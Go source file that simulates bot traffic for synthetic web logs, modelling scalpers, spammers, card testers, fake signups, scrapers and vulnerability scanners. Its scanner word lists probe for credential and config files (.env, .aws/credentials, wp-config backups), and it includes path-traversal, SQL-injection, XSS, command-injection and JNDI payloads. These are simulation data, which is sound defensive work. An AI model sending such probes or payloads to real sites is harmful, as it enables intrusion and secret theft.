package traffic

import (
	"math/rand/v2"
	neturl "net/url"
	"strconv"
	"strings"
	"time"
)

// The behaviours of the newer scenarios (see their constants). Each bot
// draws its own parameters from its own source when it is made, so that no
// scenario is one fixed pattern.

// needsShop reports whether a scenario's bots only make sense on a shop.
func needsShop(s Scenario) bool { return s == Scalper || s == Carding || s == PriceMonitor }

// newActor gives a bot of a newer scenario its behaviour, variant and user
// agents.
func newActor(b *bot, s *site) {
	switch b.scenario {
	case HeadlessBrowser:
		b.act = newHeadless(b, s)
	case PriceMonitor:
		b.act = newPriceMonitor(b, s)
	case Scalper:
		b.act = newScalper(b, s)
	case SpamPoster:
		b.act = newSpammer(b, s)
	case VulnScanner:
		b.act = newScanner(b)
	case Carding:
		b.act = newCarder(b, s)
	case FakeSignup:
		b.act = newSignup(b)
	case APIScraper:
		b.act = newAPIScraper(b, s)
	}
}

// headless is a HeadlessBrowser: listings, their items, and every page's
// assets with the page as referer.
type headless struct {
	pace     time.Duration // median between page views
	fresh    bool          // a new browser context per page: every asset, every time
	ua       string
	prev     string // the last page's URL, the next one's referer
	pages    int
	cat      int // the listing it walks
	listPage int
	left     int // items of the listing page still to open
}

func newHeadless(b *bot, s *site) *headless {
	rng := b.rng
	h := &headless{pace: between(rng, 1500*time.Millisecond, 8*time.Second), fresh: rng.IntN(2) == 0, cat: rng.IntN(len(s.categories))}
	if rng.IntN(10) < 4 {
		b.profile, h.ua = "headless-chrome", headlessAgent(rng)
	} else {
		b.profile, h.ua = "stealth-chrome", chromeAgent(rng)
	}
	b.uas = []string{h.ua}
	return h
}

func (h *headless) plan(b *bot, s *site) {
	rng := b.rng
	t := b.at
	var path, query string
	switch {
	case h.pages == 0:
		path = "/"
	case h.left == 0: // the next listing page, or the next listing
		h.listPage++
		if h.listPage > 1+rng.IntN(4) {
			h.cat, h.listPage = (h.cat+1)%len(s.categories), 1
		}
		path = s.categories[h.cat]
		if h.listPage > 1 {
			query = "page=" + strconv.Itoa(h.listPage)
		}
		h.left = 3 + rng.IntN(10)
	default:
		path = s.products[rng.IntN(len(s.products))]
		h.left--
	}
	status := 200
	if path != "/" && rng.IntN(50) == 0 {
		status = 404
	}
	b.add(s, t, "GET", path, query, h.ua, h.prev, status)
	page := s.url(path, query)
	for _, a := range s.assets {
		st := 200
		if !h.fresh && h.pages > 0 {
			if rng.IntN(10) < 7 {
				continue
			}
			st = 304
		}
		t = t.Add(ms(5 + rng.IntN(120)))
		b.add(s, t, "GET", a, "", h.ua, page, st)
	}
	if h.fresh || h.pages == 0 {
		t = t.Add(ms(50 + rng.IntN(300)))
		b.add(s, t, "GET", "/favicon.ico", "", h.ua, page, 200)
	}
	if s.rich && status == 200 && path != "/" {
		t = t.Add(ms(40 + rng.IntN(400)))
		b.add(s, t, "GET", "/api/"+s.resource, "page=1", h.ua, page, 200)
	}
	h.prev = page
	h.pages++
	b.at = t.Add(lognorm(rng, h.pace, 0.3))
}

// priceMonitor is a PriceMonitor: the same pages, in the same order, on a
// schedule.
type priceMonitor struct {
	items []string
	every time.Duration // between sweeps
	gap   time.Duration // median between the pages of a sweep
	ua    string
	ref   string
	api   bool
}

func newPriceMonitor(b *bot, s *site) *priceMonitor {
	rng := b.rng
	m := &priceMonitor{
		every: []time.Duration{5 * time.Minute, 10 * time.Minute, 15 * time.Minute, 30 * time.Minute, time.Hour}[rng.IntN(5)],
		gap:   between(rng, 500*time.Millisecond, 4*time.Second),
	}
	seen := map[string]bool{}
	for n := 3 + rng.IntN(23); len(m.items) < min(n, len(s.products)); {
		p := s.products[popular(rng, len(s.products))]
		if !seen[p] {
			seen[p] = true
			m.items = append(m.items, p)
		}
	}
	switch x := rng.IntN(100); {
	case x < 40:
		b.profile, m.ua = "tool", toolAgents[rng.IntN(len(toolAgents))]
	case x < 75:
		b.profile, m.ua = "browser-ua", browserAgent(rng)
		if rng.IntN(2) == 0 {
			m.ref = searchEngines[0]
		}
	default:
		b.profile, m.ua, m.api = "json-api", toolAgents[rng.IntN(len(toolAgents))], true
	}
	b.uas = []string{m.ua}
	return m
}

func (m *priceMonitor) plan(b *bot, s *site) {
	rng := b.rng
	t := b.at
	for i, it := range m.items {
		if i > 0 {
			t = t.Add(lognorm(rng, m.gap, 0.4))
		}
		path, status := it, 200
		if m.api {
			path = "/api/" + s.resource + "/" + itemID(it) + "/availability"
		}
		switch x := rng.IntN(100); {
		case x < 2:
			status = 404
		case x < 5 && !m.api:
			status = 304
		}
		b.add(s, t, "GET", path, "", m.ua, m.ref, status)
	}
	b.at = b.at.Add(jitter(rng, m.every, 0.03))
	if !b.at.After(t) {
		b.at = t.Add(m.every)
	}
}

// scalper is a Scalper: hot items into the cart, checkouts started.
type scalper struct {
	hot  []string
	pace time.Duration // median between its requests
	uas  []string
	hold bool // starts a checkout every round
	adds int
}

func newScalper(b *bot, s *site) *scalper {
	rng := b.rng
	c := &scalper{pace: between(rng, 300*time.Millisecond, 3*time.Second), hold: rng.IntN(3) == 0}
	for range 1 + rng.IntN(3) {
		c.hot = append(c.hot, s.products[rng.IntN(min(10, len(s.products)))])
	}
	for range 1 + rng.IntN(3) {
		c.uas = append(c.uas, browserAgent(rng))
	}
	b.profile = "add-to-cart"
	if c.hold {
		b.profile = "checkout-hold"
	}
	b.uas = c.uas
	return c
}

func (c *scalper) plan(b *bot, s *site) {
	rng := b.rng
	t := b.at
	ua := c.uas[rng.IntN(len(c.uas))]
	item := c.hot[rng.IntN(len(c.hot))]
	b.add(s, t, "GET", item, "", ua, "https://"+s.name+"/", 200)
	cart, checkout := formPaths[s.kind][0], formPaths[s.kind][1]
	for range 1 + rng.IntN(3) {
		t = t.Add(lognorm(rng, c.pace, 0.4))
		status := 200
		c.adds++
		switch x := rng.IntN(100); {
		case c.adds > 20 && x < 30: // sold out
			status = 409
		case x > 94:
			status = 429
		}
		b.add(s, t, "POST", cart, "", ua, s.url(item, ""), status)
	}
	if c.hold || rng.IntN(4) == 0 { // a checkout started, never paid
		t = t.Add(lognorm(rng, c.pace, 0.4))
		b.add(s, t, "GET", checkout, "", ua, s.url(cart, ""), 200)
		t = t.Add(ms(50 + rng.IntN(300)))
		b.add(s, t, "GET", "/api/cart", "", ua, s.url(checkout, ""), 200)
	}
	b.at = t.Add(lognorm(rng, 3*c.pace, 0.5))
}

// spammer is a SpamPoster: a form, posted.
type spammer struct {
	form  string        // the variant: comment-spam, review-spam, forum-spam or contact-form
	fetch bool          // fetches the form's page before posting it
	fill  time.Duration // between fetching the form and posting it
	every time.Duration // median between posts
	uas   []string
}

func newSpammer(b *bot, s *site) *spammer {
	rng := b.rng
	m := &spammer{
		fetch: rng.IntN(10) < 6,
		fill:  between(rng, time.Second, 15*time.Second),
		every: between(rng, 5*time.Second, 90*time.Second),
	}
	x := rng.IntN(100)
	switch {
	case x >= 60 && s.kind != kindApp && s.kind != kindDocs:
		m.form = "contact-form"
	case s.kind == kindNews || s.kind == kindBlog:
		m.form = "comment-spam"
	case s.kind == kindForum:
		m.form = "forum-spam"
	case s.kind == kindShop:
		m.form = "review-spam"
	default:
		m.form = "contact-form"
	}
	for range 1 + rng.IntN(3) {
		if rng.IntN(3) == 0 {
			m.uas = append(m.uas, toolAgents[rng.IntN(len(toolAgents))])
		} else {
			m.uas = append(m.uas, spamAgents[rng.IntN(len(spamAgents))])
		}
	}
	b.profile, b.uas = m.form, m.uas
	return m
}

// spamAgents are the stale browser builds spam tools claim to be.
var spamAgents = []string{
	"Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:78.0) Gecko/20100101 Firefox/78.0",
	"Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
	"Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18",
}

func (m *spammer) plan(b *bot, s *site) {
	rng := b.rng
	t := b.at
	ua := m.uas[rng.IntN(len(m.uas))]
	page := s.products[rng.IntN(len(s.products))]
	var post string
	switch m.form {
	case "comment-spam":
		post = page + "/comments"
	case "review-spam":
		post = page + "/reviews"
	case "forum-spam":
		post = page + "/reply"
		if rng.IntN(10) < 3 {
			page, post = "/new-topic", "/new-topic"
		}
	default:
		page, post = "/contact", "/contact"
	}
	ref := ""
	if m.fetch {
		b.add(s, t, "GET", page, "", ua, "", 200)
		t = t.Add(lognorm(rng, m.fill, 0.5))
		ref = s.url(page, "")
	} else if rng.IntN(2) == 0 {
		ref = s.url(page, "") // claimed, never fetched
	}
	status := 302
	switch x := rng.IntN(100); {
	case x < 40: // CAPTCHA or WAF
		status = 403
	case x < 50:
		status = 422
	case x < 65:
		status = 429
	}
	b.add(s, t, "POST", post, "", ua, ref, status)
	b.at = t.Add(lognorm(rng, m.every, 0.6))
}

// probe is one request of a scanner's word list.
type probe struct{ method, path, query string }

// scanner is a VulnScanner: its word list in bursts, then gone.
type scanner struct {
	probes []probe
	i      int
	pace   time.Duration // median between the probes of a burst
	ua     string
}

func newScanner(b *bot) *scanner {
	rng := b.rng
	sc := &scanner{pace: between(rng, 30*time.Millisecond, 600*time.Millisecond)}
	var list []probe
	x := rng.IntN(100)
	switch {
	case x < 30:
		b.profile, list = "wordpress-probe", wordpressProbes
		sc.ua = [...]string{"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", chromeAgent(rng), "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36"}[rng.IntN(3)]
	case x < 65:
		b.profile, list = "generic-probe", genericProbes
		sc.ua = [...]string{"Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "curl/7.88.1", "python-requests/2.25.1"}[rng.IntN(6)]
	case x < 85:
		b.profile, list = "nuclei", append(append([]probe(nil), genericProbes...), nucleiProbes...)
		sc.ua = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
		if rng.IntN(3) == 0 { // -H "User-Agent: ..." to blend in
			sc.ua = chromeAgent(rng)
		}
	default:
		b.profile, list = "sqli-probe", injectionProbes
		sc.ua = "sqlmap/1.8.4#stable (https://sqlmap.org)"
		if rng.IntN(5) < 2 {
			sc.ua = spamAgents[rng.IntN(len(spamAgents))]
		}
	}
	order := rng.Perm(len(list))
	for _, i := range order[:max(1, len(order)*(4+rng.IntN(7))/10)] {
		sc.probes = append(sc.probes, list[i])
	}
	b.uas = []string{sc.ua}
	return sc
}

func (sc *scanner) plan(b *bot, s *site) {
	rng := b.rng
	t := b.at
	for n := 5 + rng.IntN(21); n > 0 && sc.i < len(sc.probes); n-- {
		p := sc.probes[sc.i]
		sc.i++
		b.add(s, t, p.method, p.path, p.query, sc.ua, "", probeStatus(rng, p))
		t = t.Add(lognorm(rng, sc.pace, 0.5))
	}
	if sc.i == len(sc.probes) {
		b.at = b.until // done
		return
	}
	b.at = t.Add(between(rng, time.Second, 30*time.Second))
}

// probeStatus is how a site answers a probe: what exists answers, a WAF
// refuses some leaked-file and injection probes, the rest is not found.
func probeStatus(rng *rand.Rand, p probe) int {
	switch {
	case p.path == "/" || p.path == "/robots.txt" || p.path == "/sitemap.xml" || p.path == "/login":
		if p.query != "" && rng.IntN(2) == 0 {
			return 403
		}
		return 200
	case p.path == "/search":
		if rng.IntN(10) < 6 {
			return 403
		}
		return 200
	case p.method == "POST" || p.method == "PUT":
		return [...]int{404, 405, 403}[rng.IntN(3)]
	case strings.Contains(p.path, "/."), strings.Contains(p.path, ".."), strings.Contains(p.path, "%2e"):
		if rng.IntN(10) < 6 {
			return 403
		}
		return 404
	case p.path == "/admin" || p.path == "/administrator/":
		return 302 // to the login
	}
	if rng.IntN(40) == 0 {
		return 500
	}
	return 404
}

var wordpressProbes = []probe{
	{"GET", "/wp-login.php", ""}, {"GET", "/wp-admin/", ""}, {"POST", "/xmlrpc.php", ""}, {"GET", "/xmlrpc.php", ""},
	{"GET", "/wp-json/wp/v2/users", ""}, {"GET", "/wp-config.php.bak", ""}, {"GET", "/wp-config.php~", ""},
	{"GET", "/wp-includes/wlwmanifest.xml", ""}, {"GET", "/", "author=1"}, {"GET", "/readme.html", ""},
	{"GET", "/wp-content/debug.log", ""}, {"GET", "/wp-content/plugins/revslider/temp/update_extract/", ""},
	{"GET", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", ""},
	{"GET", "/wp-content/uploads/", ""}, {"GET", "/wp-admin/admin-ajax.php", "action=revslider_show_image&img=../wp-config.php"},
	{"GET", "/wordpress/wp-login.php", ""}, {"GET", "/blog/wp-login.php", ""}, {"GET", "/wp/wp-login.php", ""},
	{"GET", "/robots.txt", ""}, {"GET", "/wp-cron.php", ""},
}

var genericProbes = []probe{
	{"GET", "/.env", ""}, {"GET", "/.git/config", ""}, {"GET", "/.git/HEAD", ""}, {"GET", "/admin", ""},
	{"GET", "/admin/login", ""}, {"GET", "/administrator/", ""}, {"GET", "/phpmyadmin/", ""}, {"GET", "/pma/", ""},
	{"GET", "/server-status", ""}, {"GET", "/config.php", ""}, {"GET", "/backup.zip", ""}, {"GET", "/backup.sql", ""},
	{"GET", "/db.sql", ""}, {"GET", "/.aws/credentials", ""}, {"GET", "/.DS_Store", ""}, {"GET", "/actuator/health", ""},
	{"GET", "/actuator/env", ""}, {"GET", "/api/swagger.json", ""}, {"GET", "/swagger-ui.html", ""}, {"GET", "/v2/api-docs", ""},
	{"GET", "/console", ""}, {"GET", "/manager/html", ""}, {"GET", "/cgi-bin/test.cgi", ""}, {"GET", "/shell.php", ""},
	{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""}, {"GET", "/solr/admin/info/system", ""},
	{"GET", "/.well-known/security.txt", ""}, {"GET", "/robots.txt", ""}, {"GET", "/sitemap.xml", ""},
	{"GET", "/debug/default/view", ""}, {"GET", "/_profiler/phpinfo", ""}, {"GET", "/phpinfo.php", ""},
	{"GET", "/owa/auth/logon.aspx", ""}, {"GET", "/remote/login", ""}, {"POST", "/boaform/admin/formLogin", ""},
	{"GET", "/HNAP1/", ""}, {"GET", "/.env.production", ""}, {"GET", "/config.json", ""}, {"GET", "/.vscode/sftp.json", ""},
	{"GET", "/", ""}, {"OPTIONS", "/", ""}, {"HEAD", "/", ""},
}

var nucleiProbes = []probe{
	{"GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", ""}, {"GET", "/remote/fgt_lang", "lang=/../../../..//////////dev/cmdb/sslvpn_websession"},
	{"GET", "/jenkins/login", ""}, {"GET", "/Autodiscover/Autodiscover.xml", ""}, {"GET", "/ecp/", ""},
	{"GET", "/api/v1/pods", ""}, {"GET", "/.git/logs/HEAD", ""}, {"GET", "/telescope/requests", ""},
	{"GET", "/_next/static/../../../../etc/passwd", ""}, {"GET", "/graphql", "query=%7B__schema%7Btypes%7Bname%7D%7D%7D"},
	{"PUT", "/test.txt", ""}, {"GET", "/druid/index.html", ""}, {"GET", "/nacos/", ""}, {"GET", "/.svn/entries", ""},
}

// injectionProbes are payloads on the site's parameters, encoded as a
// client sends them.
var injectionProbes = func() []probe {
	payloads := []string{
		"' OR '1'='1", "1' AND SLEEP(5)-- -", "1 UNION SELECT NULL,NULL,NULL--", "<script>alert(1)</script>",
		"\"><svg/onload=alert(1)>", "../../../../etc/passwd", "${jndi:ldap://x.example/a}", "{{7*7}}",
		"1;cat /etc/passwd", "admin'--", "%00", "1' ORDER BY 10-- -",
	}
	var out []probe
	for _, p := range payloads {
		q := neturl.QueryEscape(p)
		out = append(out, probe{"GET", "/search", "q=" + q}, probe{"GET", "/", "id=" + q}, probe{"GET", "/login", "next=" + q})
	}
	return out
}()

// carder is a Carding bot: payment POSTs from the checkout page.
type carder struct {
	page, post string
	gift       bool
	pace       time.Duration // median between attempts
	uas        []string
	began      bool
}

func newCarder(b *bot, s *site) *carder {
	rng := b.rng
	c := &carder{gift: rng.IntN(100) < 35, pace: between(rng, 3*time.Second, 40*time.Second)}
	switch {
	case s.kind != kindShop:
		c.page, c.post = "/donate", "/api/donations"
	case c.gift:
		c.page, c.post = "/gift-cards", "/api/gift-cards/balance"
	default:
		c.page, c.post = "/checkout", "/api/checkout/payment"
	}
	for range 1 + rng.IntN(2) {
		c.uas = append(c.uas, browserAgent(rng))
	}
	b.profile, b.uas = "card-testing", c.uas
	if c.gift {
		b.profile = "gift-card"
	}
	return c
}

func (c *carder) plan(b *bot, s *site) {
	rng := b.rng
	t := b.at
	ua := c.uas[rng.IntN(len(c.uas))]
	if !c.began {
		c.began = true
		b.add(s, t, "GET", c.page, "", ua, "", 200)
		t = t.Add(between(rng, 2*time.Second, 10*time.Second))
	}
	status := 402 // declined
	x := rng.IntN(100)
	if c.gift {
		switch {
		case x < 3:
			status = 200
		case x < 88:
			status = 400 // no such card
		default:
			status = 429
		}
	} else {
		switch {
		case x < 4:
			status = 200
		case x < 12:
			status = 400
		case x < 17:
			status = 422
		case x < 22:
			status = 429
		}
	}
	b.add(s, t, "POST", c.post, "", ua, s.url(c.page, ""), status)
	b.at = t.Add(lognorm(rng, c.pace, 0.5))
}

// signup is a FakeSignup bot: accounts, one after the other.
type signup struct {
	api    bool
	pace   time.Duration // median between accounts
	rotate bool          // a new user agent per account
	ua     string
	verify int // chance in 100 of opening the verification link
}

func newSignup(b *bot) *signup {
	rng := b.rng
	u := &signup{
		api: rng.IntN(10) < 3, pace: between(rng, 10*time.Second, 2*time.Minute),
		rotate: rng.IntN(2) == 0, ua: browserAgent(rng), verify: 20 + rng.IntN(60),
	}
	b.profile, b.uas = "web-form", []string{u.ua}
	if u.api {
		b.profile = "api"
	}
	return u
}

func (u *signup) plan(b *bot, s *site) {
	rng := b.rng
	t := b.at
	ua := u.ua
	if u.rotate {
		ua = browserAgent(rng)
	}
	if u.api {
		status := [...]int{201, 201, 201, 201, 201, 201, 409, 422, 422, 429}[rng.IntN(10)]
		b.add(s, t, "POST", "/api/v1/users", "", ua, "", status)
		b.at = t.Add(lognorm(rng, u.pace, 0.6))
		return
	}
	b.add(s, t, "GET", "/signup", "", ua, [...]string{"", "https://" + s.name + "/"}[rng.IntN(2)], 200)
	t = t.Add(between(rng, 2*time.Second, 15*time.Second))
	form := s.url("/signup", "")
	status := [...]int{302, 302, 302, 302, 302, 302, 422, 422, 409, 403}[rng.IntN(10)]
	b.add(s, t, "POST", "/signup", "", ua, form, status)
	if status == 302 {
		t = t.Add(ms(100 + rng.IntN(300)))
		b.add(s, t, "GET", "/welcome", "", ua, form, 200)
		if rng.IntN(100) < u.verify { // the mailbox script follows the link
			t = t.Add(between(rng, 5*time.Second, 90*time.Second))
			b.add(s, t, "GET", "/verify-email", "token="+strconv.FormatUint(rng.Uint64(), 16), ua, "", 302)
		}
	}
	b.at = t.Add(lognorm(rng, u.pace, 0.6))
}

// apiScraper is an APIScraper: batches of API calls.
type apiScraper struct {
	mode  string        // paged-list, id-walk or graphql
	pace  time.Duration // median between calls
	ua    string
	ref   string
	n     int // the next page or id
	pages int // of the listing
}

func newAPIScraper(b *bot, s *site) *apiScraper {
	rng := b.rng
	a := &apiScraper{pace: between(rng, 100*time.Millisecond, 1500*time.Millisecond), pages: 5 + len(s.products)/100}
	switch x := rng.IntN(100); {
	case x < 45:
		a.mode, a.n = "paged-list", 1
	case x < 85:
		a.mode, a.n = "id-walk", 1000+rng.IntN(9000)
	default:
		a.mode = "graphql"
	}
	if rng.IntN(4) == 0 {
		a.ua, a.ref = chromeAgent(rng), "https://"+s.name+"/"
	} else {
		a.ua = toolAgents[rng.IntN(len(toolAgents))]
	}
	b.profile, b.uas = a.mode, []string{a.ua}
	return a
}

func (a *apiScraper) plan(b *bot, s *site) {
	rng := b.rng
	t := b.at
	pause := between(rng, 2*time.Second, 30*time.Second)
	for range 20 + rng.IntN(81) {
		method, path, query, status := "GET", "/api/v1/"+s.resource, "", 200
		switch a.mode {
		case "paged-list":
			query = "page=" + strconv.Itoa(a.n) + "&per_page=100"
			if a.n++; a.n > a.pages {
				a.n = 1
			}
		case "id-walk":
			path += "/" + strconv.Itoa(a.n)
			a.n++
			if rng.IntN(100) < 35 {
				status = 404
			}
		default:
			method, path = "POST", "/graphql"
		}
		if a.pace < 400*time.Millisecond && rng.IntN(10) == 0 {
			status = 429
		}
		b.add(s, t, method, path, query, a.ua, a.ref, status)
		if status == 429 { // back off
			pause = between(rng, 10*time.Second, time.Minute)
			break
		}
		t = t.Add(lognorm(rng, a.pace, 0.3))
	}
	b.at = t.Add(pause)
}
